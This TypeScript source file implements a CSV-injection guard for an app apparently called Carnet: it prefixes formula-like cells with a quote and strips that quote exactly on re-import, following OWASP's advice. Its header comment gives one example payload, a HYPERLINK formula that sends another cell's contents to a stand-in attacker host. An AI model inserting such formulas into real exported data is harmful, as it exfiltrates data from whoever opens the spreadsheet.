/**
 * The CSV-injection guard, and its exact inverse.
 *
 * A spreadsheet program that opens a CSV reads a cell starting with `=`, `+`, `-` or `@` as a
 * formula, and Excel also one starting with a tab or a carriage return: a company named
 * `=HYPERLINK("https://evil.example/?"&A1,"Open")` would run in the exporting colleague's Excel.
 * OWASP's "CSV Injection" page (https://owasp.org/www-community/attacks/CSV_Injection) lists those
 * six characters and recommends prefixing such a cell with a single quote and quoting the field,
 * which Excel, LibreOffice and Google Sheets then show as text. (The page added a line feed to its
 * list in 2025, OWASP/www-community#1116, for breaking rows; a quoted field already keeps its line
 * feeds inside the row, so Carnet's writer needs no guard for it.)
 *
 * The quote is one more character in the file, so Carnet must recognise its own guard when the
 * file comes back (issue 10: an export re-imports exactly). Stripping a leading `'` before a
 * trigger character would be wrong for a value that really is `'=x`; so a value that already
 * starts with quotes followed by a trigger gets one more quote too. Then `unguardCell` (drop one
 * `'` when quotes lead to a trigger) undoes `guardCell` for every string, and leaves alone every
 * string that is not what a guard writes. Numbers are written by Carnet itself (`-5`, `-12.50`), so
 * they are never guarded: only text that came from a person or a file is.
 */

/** The characters a spreadsheet reads as the start of a formula, after any leading quotes. */
const GUARDED = /^'*[=+\-@\t\r]/;
/** What `guardCell` produced: quotes, then a trigger character. */
const WAS_GUARDED = /^'+[=+\-@\t\r]/;

/** The text as a CSV cell that no spreadsheet runs as a formula. */
export function guardCell(text: string): string {
  return GUARDED.test(text) ? `'${text}` : text;
}

/** The text `guardCell` was given: one leading quote dropped before quotes and a trigger character. */
export function unguardCell(text: string): string {
  // Every cell of an import passes here: most do not start with a quote at all.
  return text.charCodeAt(0) === 39 && WAS_GUARDED.test(text) ? text.slice(1) : text;
}

/** True for a cell as `guardCell` wrote it (the CSV writer quotes those, as OWASP recommends). */
export function isGuarded(text: string): boolean {
  return WAS_GUARDED.test(text);
}
